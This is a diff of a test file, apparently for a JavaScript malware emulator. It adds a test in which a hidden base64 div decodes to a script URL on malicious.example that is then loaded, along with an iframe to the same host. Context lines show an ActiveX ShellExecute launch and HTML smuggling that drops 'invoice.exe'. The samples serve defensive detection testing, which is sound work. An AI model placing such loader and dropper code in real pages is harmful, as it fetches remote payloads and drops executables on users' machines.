@@ -96,6 +96,21 @@ new ActiveXObject("Shell.Application").ShellExecute("wscript.exe", "C:\\\\Progra
     expect(calls(r, 'network')).toEqual([['window.location', 'http://malicious.example/landing']]);
   });
 
+  it('runs script elements a page creates, records the ones it loads, and reads the page for getElementById', async () => {
+    const html = '<html><body><div id="cfg" style="display:none">aHR0cDovL21hbGljaW91cy5leGFtcGxlL2MyLmpz</div></body></html>';
+    const code = [
+      'var s = document.createElement("script"); s.text = "window.stage = atob(document.getElementById(\'cfg\').innerHTML);"; document.head.appendChild(s);',
+      'var t = document.createElement("script"); t.src = window.stage; document.body.appendChild(t);',
+      'var f = document.createElement("iframe"); f.setAttribute("src", "http://malicious.example/frame.html"); document.body.appendChild(f);',
+    ].join('\n');
+    const r = await run(code, { environment: 'browser', html });
+    expect(r.layers.map((l) => [l.technique, l.text])).toEqual([['emulation:script-element', "window.stage = atob(document.getElementById('cfg').innerHTML);"]]);
+    expect(calls(r, 'network')).toEqual([
+      ['script.src', 'http://malicious.example/c2.js'],
+      ['iframe.src', 'http://malicious.example/frame.html'],
+    ]);
+  });
+
   it('catches HTML smuggling: a Blob offered as a download becomes a dropped file', async () => {
     const r = await run('var bytes = new Uint8Array([77, 90, 144, 0]); var b = new Blob([bytes], { type: "application/octet-stream" }); var a = document.createElement("a"); a.href = URL.createObjectURL(b); a.download = "invoice.exe"; document.body.appendChild(a); a.click();', { environment: 'browser' });
     expect(r.drops).toHaveLength(1);
